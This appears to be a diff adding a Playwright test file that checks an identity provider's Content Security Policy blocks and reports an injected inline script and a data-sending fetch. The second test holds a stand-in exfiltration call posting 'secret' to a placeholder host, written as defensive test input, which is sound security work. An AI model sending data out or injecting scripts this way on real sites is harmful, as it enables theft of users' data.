@@ -1,0 +1,83 @@
+import type { Page } from 'playwright-core'
+import { describe, expect, it } from 'vitest'
+import { takeCspViolations } from './harness/csp-violations.ts'
+import { openTestPage, useSignet } from './harness/fixture.ts'
+
+// The policy the server sends stops what an attacker would try first on an identity provider's page:
+// a script slipped into the HTML, and a connection carrying data to a host nobody configured.
+
+/** Resolves with the next CSP report the page sends to the server, and the server's answer. */
+function nextReport(page: Page) {
+  return page
+    .waitForResponse((response) => response.url().endsWith('/api/csp-report'))
+    .then(async (response) => ({
+      status: response.status(),
+      report: JSON.parse(response.request().postData() ?? '{}')['csp-report'] as Record<string, unknown>,
+    }))
+}
+
+describe('Content Security Policy', () => {
+  const fixture = useSignet()
+
+  it('blocks a script injected into the page’s HTML, and reports it to Signet', async (test) => {
+    // A test-only route: the real answer (headers and policy untouched) with an inline script added,
+    // as a stored-XSS flaw or a tampering proxy would add it.
+    const { page } = await openTestPage(fixture, test)
+    await page.route(`${fixture.signet.url}/`, async (route) => {
+      const response = await route.fetch()
+      const body = (await response.text()).replace(
+        '</head>',
+        '<script>window.injectedScriptRan = true</script></head>',
+      )
+      await route.fulfill({ response, body })
+    })
+    const reported = nextReport(page)
+    await page.goto(`${fixture.signet.url}/`, { waitUntil: 'domcontentloaded' })
+    await expect(page.getByRole('button', { name: 'Connect Wallet' }).waitFor()).resolves.toBeUndefined()
+    expect(await page.evaluate(() => (window as { injectedScriptRan?: boolean }).injectedScriptRan)).toBe(
+      undefined,
+    )
+    const { status, report } = await reported
+    expect(status).toBe(204)
+    expect(report).toMatchObject({
+      'blocked-uri': 'inline',
+      'effective-directive': 'script-src-elem',
+      'document-uri': `${fixture.signet.url}/`,
+    })
+    expect(takeCspViolations()).toEqual([expect.stringMatching(/inline script .*'script-src 'self''/)])
+  })
+
+  it('blocks a connection to a host that is not configured, and reports it', async (test) => {
+    const { page } = await openTestPage(fixture, test)
+    await page.getByRole('button', { name: 'Connect Wallet' }).waitFor()
+    const reported = nextReport(page)
+    const outcome = await page.evaluate(async () => {
+      const violation = new Promise<{ blockedURI: string; effectiveDirective: string }>((resolve) =>
+        document.addEventListener('securitypolicyviolation', (event) => resolve(event), { once: true }),
+      )
+      const fetched = await fetch('https://unlisted.example/collect', {
+        method: 'POST',
+        body: 'secret',
+      }).then(
+        () => 'sent',
+        (error: Error) => `failed: ${error.message}`,
+      )
+      const { blockedURI, effectiveDirective } = await violation
+      return { fetched, blockedURI, effectiveDirective }
+    })
+    expect(outcome).toEqual({
+      fetched: 'failed: Failed to fetch',
+      blockedURI: 'https://unlisted.example/collect',
+      effectiveDirective: 'connect-src',
+    })
+    const { status, report } = await reported
+    expect(status).toBe(204)
+    expect(report).toMatchObject({
+      'blocked-uri': 'https://unlisted.example/collect',
+      'effective-directive': 'connect-src',
+    })
+    expect(takeCspViolations()).toEqual([
+      expect.stringContaining("Refused to connect to 'https://unlisted.example/collect'"),
+    ])
+  })
+})
